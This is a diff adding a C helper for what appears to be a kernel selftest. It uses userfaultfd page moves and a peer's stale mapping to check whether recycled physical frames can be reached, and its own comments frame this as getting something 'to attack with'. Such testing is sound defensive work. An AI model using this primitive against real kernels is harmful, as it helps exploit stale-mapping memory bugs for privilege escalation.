@@ -1,0 +1,82 @@
+// SPDX-License-Identifier: GPL-2.0
+/* Pages that change their mapping, see userfault.h. */
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <linux/userfaultfd.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/mman.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#include "env.h"
+#include "ktap.h"
+#include "map.h"
+#include "peer.h"
+#include "userfault.h"
+
+/* Newer than the headers of some distributions. */
+#ifndef UFFDIO_MOVE
+struct uffdio_move {
+	__u64 dst, src, len, mode;
+	__s64 move;
+};
+
+#define UFFDIO_MOVE		_IOWR(UFFDIO, 0x05, struct uffdio_move)
+#define UFFD_FEATURE_MOVE	(1 << 16)
+#endif
+
+/* What the peer writes to find out which frames it reaches. */
+#define PROBED	0x66
+
+static void move(int uffd, char *to, char *from, size_t length)
+{
+	struct uffdio_move order = {
+		.dst = (unsigned long)to, .src = (unsigned long)from,
+		.len = length,
+	};
+
+	ENSURE(!ioctl(uffd, UFFDIO_MOVE, &order), "UFFDIO_MOVE: %m");
+}
+
+static int open_userfault(void)
+{
+	struct uffdio_api api = {
+		.api = UFFD_API, .features = UFFD_FEATURE_MOVE,
+	};
+	int uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
+
+	if (uffd < 0 || ioctl(uffd, UFFDIO_API, &api))
+		ktap_skip("no userfaultfd that moves pages: %m");
+	return uffd;
+}
+
+char *move_recycled(char *stale, size_t held, size_t pages, unsigned char byte)
+{
+	size_t length = pages * PAGE, reached = 0, i;
+	int uffd = open_userfault();
+	struct uffdio_register area;
+	char *q, *r;
+
+	q = fpr_map(NULL, 0, pages, PROT_READ | PROT_WRITE, MAP_PRIVATE);
+	memset(q, byte, length);
+	peer_write(stale, held, WORD(PROBED));
+	for (i = 0; i < pages; i++)
+		reached += probe_read(q + i * PAGE) == WORD(PROBED);
+	PREMISE(reached, "no recycled frame is reached: nothing to attack with");
+	memset(q, byte, length);
+
+	r = mmap(NULL, length, PROT_READ | PROT_WRITE,
+		 MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	ENSURE(r != MAP_FAILED, "mmap: %m");
+	area = (struct uffdio_register) {
+		.range = { .start = (unsigned long)r, .len = length },
+		.mode = UFFDIO_REGISTER_MODE_MISSING,
+	};
+	ENSURE(!ioctl(uffd, UFFDIO_REGISTER, &area), "UFFDIO_REGISTER: %m");
+	/* One by one: more would end in a flush of everything. */
+	for (i = 0; i < pages; i++)
+		move(uffd, r + i * PAGE, q + i * PAGE, PAGE);
+	ktap_note("%zu of %zu pages were reached", reached, pages);
+	return r;
+}
